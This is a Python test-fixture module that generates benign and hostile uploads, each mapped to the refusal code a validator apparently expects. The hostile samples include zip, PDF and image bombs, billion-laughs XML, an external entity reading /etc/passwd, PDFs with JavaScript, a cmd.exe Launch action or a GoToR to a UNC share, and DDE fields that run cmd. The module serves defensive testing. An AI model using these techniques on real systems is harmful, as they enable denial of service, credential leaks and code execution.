"""Files as people hand them in, good and hostile, made where they are needed."""

import io
import struct
import tarfile
import zipfile
import zlib
from functools import cache

import openpyxl
import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Dictionary, Name
from PIL import Image

MB = 1024 * 1024
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
OFFICE = "application/vnd.openxmlformats-officedocument"
WORD = f"{OFFICE}.wordprocessingml.document.main+xml"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">'
        for a, b in zip("abcdefghi", "bcdefghij", strict=True)
    )
    + "]><x>&j;</x>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'


def upload(name, content):
    return SimpleUploadedFile(name, content)


# Good ones


def pdf(change=None, **options):
    with pikepdf.new() as document:
        document.add_blank_page()
        if change:
            change(document)
        out = io.BytesIO()
        document.save(out, **options)
    return out.getvalue()


def packed(parts, onto=b""):
    """The parts, name to content, packed; added to those of another package."""
    out = io.BytesIO(onto)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def types(main=WORD, more=""):
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
        f'2006/content-types"><Override PartName="/word/document.xml" '
        f'ContentType="{main}"/>{more}</Types>'
    )


def docx(parts=None, **about):
    return packed(
        {
            "[Content_Types].xml": types(**about),
            "_rels/.rels": "<Relationships/>",
            "word/document.xml": "<document><body><p>ประชุม</p></body></document>",
            **(parts or {}),
        }
    )


@cache
def workbook():
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "รายได้"
    book.save(out)
    return out.getvalue()


def xlsx(parts=None):
    return packed(parts or {}, onto=workbook())


def picture(kind, size=(60, 40), mode="RGB", **options):
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, kind, **options)
    return out.getvalue()


def located():
    """What a phone writes into a picture: turned on its side, taken at this place."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825).update({1: "N", 2: (18.0, 47.0, 0.0), 3: "E", 4: (100, 46, 0)})
    return exif


# Hostile ones


def javascript(document):
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def hidden_javascript(document):
    """In an object of its own, as annotations have it."""
    action = document.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    document.pages[0].AA = Dictionary(O=action)


def launch(document):
    document.pages[0].Annots = [Dictionary(A=Dictionary(S=Name.Launch, F="cmd.exe"))]


def form_script(document):
    document.Root.AcroForm = Dictionary(XFA=document.make_stream(b"<xdp/>"))


def attachment(document):
    document.attachments["payload.exe"] = b"MZ"


def embedded_alone(document):
    document.Root.Odd = document.make_stream(b"MZ", {"/Type": Name.EmbeddedFile})


def no_page(document):
    del document.pages[0]


def crowd(document):
    """More objects than are looked through."""
    things = [document.make_indirect(Dictionary(N=n)) for n in range(100_001)]
    document.Root.Crowd = things


@cache
def structure_bomb():
    """A list of objects, unpacked by any reader on opening, of 400 MB."""
    packer = zlib.compressobj(9)
    blank = b" " * MB
    data = packer.compress(b"1 0 ") + b"".join(
        packer.compress(blank) for _time in range(400)
    )
    data += packer.flush()
    body, places = b"%PDF-1.5\n", {}
    objects = {
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
        % len(data)
        + data
        + b"\nendstream",
    }
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = [(0, 0, 0), (2, 4, 0), *((1, places[n], 0) for n in objects)]
    rows.append((1, len(body), 0))
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    start = len(body)
    head = b"<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>" % len(table)
    body += b"5 0 obj\n%sstream\n%s\nendstream\nendobj\n" % (head, table)
    return body + b"startxref\n%d\n%%%%EOF\n" % start


@cache
def bomb():
    """A document of some 200 KB that unpacks to 200 MB."""
    return docx({"word/media/image1.bmp": b"\0" * (200 * MB)})


def lying_bomb(size=64):
    """As the bomb, with a list that announces a few bytes, and their checksum."""
    told = struct.pack("<I", size)
    check = struct.pack("<I", zlib.crc32(b"\0" * size))
    data = bytearray(bomb())
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 16 : entry + 20], data[entry + 24 : entry + 28] = check, told
    local = data.find(b"word/media/image1.bmp") - 30
    data[local + 14 : local + 18], data[local + 22 : local + 26] = check, told
    return bytes(data)


def short_lie():
    """Announces fewer bytes than there are, though harmless."""
    data = bytearray(docx({"word/a.bin": b"x" * 5000}))
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = struct.pack("<I", 10)
    return bytes(data)


def locked_zip():
    """Every entry marked as encrypted."""
    data = bytearray(docx())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(mark)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(mark, place + 4)
    return bytes(data)


def other_method():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_LZMA) as package:
        package.writestr("word/a.bin", b"x" * 100)
    return out.getvalue()


def twice():
    """Two parts of one name: which one is read depends on the reader."""
    data = docx({"word/a.xml": "<a/>", "word/b.xml": "<b/>"})
    return data.replace(b"word/b.xml", b"word/a.xml")


def pixel_bomb(side=50_000):
    def chunk(kind, data):
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        [chunk(b"IHDR", head), chunk(b"IDAT", rows), chunk(b"IEND", b"")]
    )


def tar():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a.txt"))
    return out.getvalue()


def written_pdf(objects, trailer=b"/Root 1 0 R", start=None):
    """A PDF as it stands in a file, object by object, with one page in objects 2, 3."""
    body, places = b"%PDF-1.5\n", {}
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>",
        **objects,
    }
    for number, content in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    size = max(objects) + 1
    table = b"xref\n0 %d\n0000000000 65535 f \n" % size
    table += b"".join(b"%010d 00000 n \n" % places.get(n, 0) for n in range(1, size))
    table += b"trailer\n<</Size %d%s>>\n" % (size, trailer)
    start = len(body) if start is None else start
    return body + table + b"startxref\n%d\n%%%%EOF\n" % start


SCRIPT = b"<</S/JavaScript/JS(app.alert)>>"


def action(content):
    return lambda: written_pdf({4: content})


def script_in_the_trailer():
    root = b"/Root<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % SCRIPT
    return written_pdf({}, root)


def script_found_by_who_rebuilds():
    """The table of places is gone, and the script in a list that qpdf then skips."""
    data = zlib.compress(b"4 0 " + SCRIPT)
    packed_list = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
    packed_list = packed_list % len(data) + data + b"\nendstream"
    return written_pdf({5: packed_list}, start=99_999)


def lists_that_explode_together(many=20, size=3 * MB):
    """Each list of objects is of a size that is taken; all of them are not."""
    data = zlib.compress(b"9 0 " + b" " * size, 9)
    about = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n"
    content = about % len(data) + data + b"\nendstream"
    body, places = b"%PDF-1.5\n", {}
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        **{4 + n: content for n in range(many)},
    }
    for number, written in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, written)
    rows = [(0, 0, 0), *((1, places[number], 0) for number in objects)]
    rows += [(2, 4 + n, 0) for n in range(many)]
    table = b"".join(struct.pack(">BIB", *row) for row in [*rows, (1, len(body), 0)])
    about = b"<</Type/XRef/Size %d/W[1 4 1]/Root 1 0 R/Length %d>>stream\n"
    body += b"%d 0 obj\n" % len(rows)
    start = body.rfind(b"%d 0 obj" % len(rows))
    body += about % (len(rows) + 1, len(table)) + table + b"\nendstream\nendobj\n"
    return body + b"startxref\n%d\n%%%%EOF\n" % start


def saved_onto_itself(times=65):
    return written_pdf({4: b"null"}) + b"<</Type /#58Ref>>\n" * times + b"%%EOF\n"


def many_scans(times=100, side=2_000):
    """A JPEG that passes over its pixels again and again, in a few bytes each time."""
    out = io.BytesIO()
    Image.new("L", (side, side), 128).save(out, "JPEG", progressive=True)
    data = out.getvalue()
    scan, end = data.rfind(b"\xff\xda"), data.rfind(b"\xff\xd9")
    return data[:scan] + data[scan:end] * times + data[end:]


def many_comments(times=30_000):
    data = picture("JPEG")
    return data[:2] + b"\xff\xfe\x00\x02" * times + data[2:]


def many_chunks(times=30_000):
    data = picture("PNG")
    chunk = b"\0\0\0\0abCd" + struct.pack(">I", zlib.crc32(b"abCd"))
    return data[:33] + chunk * times + data[33:]


def linked(kind, mode="", **parts):
    """A Word file with one link of a kind to another part, or to the outside."""
    link = f"<Relationships><Relationship Type='x/{kind}' Target='a' {mode}/>"
    return docx({"word/_rels/document.xml.rels": f"{link}</Relationships>", **parts})


def field(content):
    return docx({"word/document.xml": f"<w:d xmlns:w='w'>{content}</w:d>"})


HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EXE = b"MZ\x90\x00" + b"\0" * 200
MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
STARTS = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
FROM_AFAR = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://example.org/evil.dotm" TargetMode="External"/></Relationships>'
)

# what it is -> (name, how it is made, the code of its refusal)
HOSTILE = {
    "an empty file": ("a.pdf", lambda: b"", "empty"),
    "a PDF of 21 MB": ("a.pdf", lambda: pdf() + b" " * (21 * MB), "too-big"),
    "a page of HTML": ("a.html", lambda: HTML, "wrong-type"),
    "a drawing that scripts": ("a.svg", lambda: SVG, "wrong-type"),
    "a program": ("setup.exe", lambda: EXE, "wrong-type"),
    "a double extension": ("invoice.pdf.exe", lambda: EXE, "wrong-type"),
    "a name turned round": ("a\u202efdp.exe", lambda: EXE, "wrong-type"),
    "a name without extension": ("pdf", lambda: pdf(), "wrong-type"),
    "a macro document by its name": ("a.docm", lambda: docx(main=MACRO), "wrong-type"),
    "HTML as picture": ("a.png", lambda: HTML, "lies"),
    "SVG as picture": ("a.png", lambda: SVG, "lies"),
    "text as PDF": ("a.pdf", lambda: "รายงาน".encode(), "lies"),
    "a program as PDF": ("a.pdf", lambda: EXE, "lies"),
    "the test virus as PDF": ("a.pdf", lambda: EICAR, "lies"),
    "a GIF as JPEG": ("a.jpg", lambda: picture("GIF", mode="L"), "lies"),
    "a PNG as WebP": ("a.webp", lambda: picture("PNG"), "lies"),
    "a sound as WebP": ("a.webp", lambda: b"RIFF\x24\0\0\0WAVEfmt ", "lies"),
    "a tar as Word": ("a.docx", tar, "lies"),
    "any zip as Word": ("a.docx", lambda: packed({"a.txt": "a"}), "lies"),
    "Excel as Word": ("a.docx", workbook, "lies"),
    "an old Word file": ("a.docx", lambda: OLE + b"\0" * 5000, "lies"),
    "HTML before a PDF": ("a.pdf", lambda: HTML + pdf(), "lies"),
    "PDF and zip in one": ("a.pdf", lambda: pdf() + packed({"a": "a"}), "lies"),
    "a part that climbs": ("a.docx", lambda: docx({"../../a": "a"}), "lies"),
    "an encrypted PDF": (
        "a.pdf",
        lambda: pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
        "password",
    ),
    "an encrypted workbook": (
        "a.xlsx",
        lambda: OLE + b"\0" * 70_000 + "EncryptedPackage".encode("utf-16-le"),
        "password",
    ),
    "an encrypted zip": ("a.docx", locked_zip, "password"),
    "a bomb": ("bomb.docx", bomb, "bomb"),
    "a bomb that lies": ("bomb.docx", lying_bomb, "bomb"),
    "ten thousand parts": (
        "a.xlsx",
        lambda: xlsx({f"a{n}": "" for n in range(10_000)}),
        "bomb",
    ),
    "a billion laughs": ("a.xlsx", lambda: xlsx({"xl/x.xml": LAUGHS}), "bomb"),
    "an entity from outside": ("a.docx", lambda: docx({"word/x.xml": OUTSIDE}), "bomb"),
    "XML without a floor": (
        "a.docx",
        lambda: docx({"word/x.xml": "<a>" * 999}),
        "bomb",
    ),
    "a PDF of many objects": (
        "a.pdf",
        lambda: pdf(crowd, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "bomb",
    ),
    "a picture of 2,500 megapixels": ("a.png", pixel_bomb, "too-many-pixels"),
    "a picture of 64 megapixels": (
        "a.png",
        lambda: pixel_bomb(8_000),
        "too-many-pixels",
    ),
    "a macro document renamed": ("a.docx", lambda: docx(main=MACRO), "active"),
    "a macro beside": ("a.docx", lambda: docx(more=VBA), "active"),
    "a macro unannounced": (
        "a.xlsx",
        lambda: xlsx({"xl/vbaProject.bin": b"abc"}),
        "active",
    ),
    "an old file inside": (
        "a.docx",
        lambda: docx({"word/a.bin": OLE + b"a"}),
        "active",
    ),
    "a program inside": ("a.docx", lambda: docx({"word/media/a.png": EXE}), "active"),
    "a zip inside": ("a.docx", lambda: docx({"word/a": packed({"a": "a"})}), "active"),
    "macros in a workbook inside": (
        "a.docx",
        lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/vbaProject.bin": b"abc"})}),
        "active",
    ),
    "a workbook in one inside": (
        "a.docx",
        lambda: docx({"word/embeddings/a.xlsx": xlsx({"xl/a.xlsx": workbook()})}),
        "active",
    ),
    "a template from afar": (
        "a.docx",
        lambda: docx({"word/_rels/settings.xml.rels": FROM_AFAR}),
        "active",
    ),
    "a workbook that starts a program": (
        "a.xlsx",
        lambda: xlsx({"xl/externalLinks/externalLink1.xml": STARTS}),
        "active",
    ),
    "PDF with a script": ("a.pdf", lambda: pdf(javascript), "active"),
    "PDF with a hidden script": (
        "a.pdf",
        lambda: pdf(
            hidden_javascript,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        ),
        "active",
    ),
    "PDF that starts a program": ("a.pdf", lambda: pdf(launch), "active"),
    "PDF with a scripted form": ("a.pdf", lambda: pdf(form_script), "active"),
    "PDF with a file inside": ("a.pdf", lambda: pdf(attachment), "active"),
    "PDF with a file unlisted": ("a.pdf", lambda: pdf(embedded_alone), "active"),
    "PDF with a script in its trailer": ("a.pdf", script_in_the_trailer, "active"),
    "PDF with a script in other letters": (
        "a.pdf",
        action(b"<</S/Java#53cript/#4aS(app.alert)>>"),
        "active",
    ),
    "PDF with a script hung on later": (
        "a.pdf",
        lambda: action(SCRIPT)() + b"4 0 obj\n<<>>\nendobj\n",
        "active",
    ),
    "PDF that signs in elsewhere": (
        "a.pdf",
        action(rb"<</S/GoToR/F(\\\\example.org\\a)/D[0/Fit]>>"),
        "active",
    ),
    "PDF that opens a file within": (
        "a.pdf",
        action(rb"<</S/GoToE/F(\\\\example.org\\a)/D[0/Fit]>>"),
        "active",
    ),
    "PDF that sends a form": (
        "a.pdf",
        action(b"<</S/SubmitForm/F(https://example.org)>>"),
        "active",
    ),
    "macros of before 1993": (
        "a.xlsx",
        lambda: docx(more='<Override PartName="/a" ContentType="x.macrosheet+xml"/>'),
        "active",
    ),
    "a picture from afar": (
        "a.docx",
        lambda: linked("image", "TargetMode='External'"),
        "active",
    ),
    "a page taken in": ("a.docx", lambda: linked("aFChunk"), "active"),
    "rich text inside": ("a.docx", lambda: docx({"word/a": r"{\rtf1}"}), "active"),
    "a field that asks a program": (
        "a.docx",
        lambda: field('<w:fldSimple w:instr="DDEAUTO c:/cmd.exe"/>'),
        "active",
    ),
    "a field that asks one in pieces": (
        "a.docx",
        lambda: field(
            "<w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType='begin'/>"
            "<w:instrText>DD</w:instrText><w:t>a</w:t><w:instrText>E c</w:instrText>"
        ),
        "active",
    ),
    "a PDF whose lists explode together": (
        "a.pdf",
        lists_that_explode_together,
        "bomb",
    ),
    "fields without an end": (
        "a.docx",
        lambda: field(
            f"<w:instrText>{''.join(map(str, range(200_000)))}</w:instrText>"
        ),
        "bomb",
    ),
    "a PDF saved onto itself": ("a.pdf", saved_onto_itself, "bomb"),
    "a JPEG of a hundred passes": ("a.jpg", many_scans, "bomb"),
    "a JPEG of 30,000 comments": ("a.jpg", many_comments, "bomb"),
    "a PNG of 30,000 pieces": ("a.png", many_chunks, "bomb"),
    "a PDF rebuilt with a script": ("a.pdf", script_found_by_who_rebuilds, "broken"),
    "a PDF too deep to look into": (
        "a.pdf",
        action(b"[" * 70 + SCRIPT + b"]" * 70),
        "broken",
    ),
    "a PDF too odd to look into": (
        "a.pdf",
        action(b"<</S/JavaScript/JS(a)/X[" + b"}a " * 50 + b"]>>"),
        "broken",
    ),
    "a PDF cut short": ("a.pdf", lambda: pdf()[:300], "broken"),
    "a PDF without pages": ("a.pdf", lambda: pdf(no_page), "broken"),
    "a PDF whose lists explode": ("a.pdf", structure_bomb, "broken"),
    "a Word file cut short": ("a.docx", lambda: docx()[:300], "broken"),
    "an Excel file cut short": ("a.xlsx", lambda: workbook()[:2000], "broken"),
    "a list that tells too little": ("a.docx", short_lie, "broken"),
    "a part of two contents": ("a.docx", twice, "broken"),
    "a part packed otherwise": ("a.docx", other_method, "broken"),
    "a part that is no XML": ("a.docx", lambda: docx({"word/x.xml": "<a>"}), "broken"),
    "a PNG cut short": ("a.png", lambda: picture("PNG")[:500], "broken"),
    "a PNG of a few bytes": ("a.png", lambda: picture("PNG")[:12], "broken"),
    "a JPEG cut short": ("a.jpg", lambda: picture("JPEG")[:700], "broken"),
    "a WebP cut short": ("a.webp", lambda: picture("WEBP")[:200], "broken"),
}
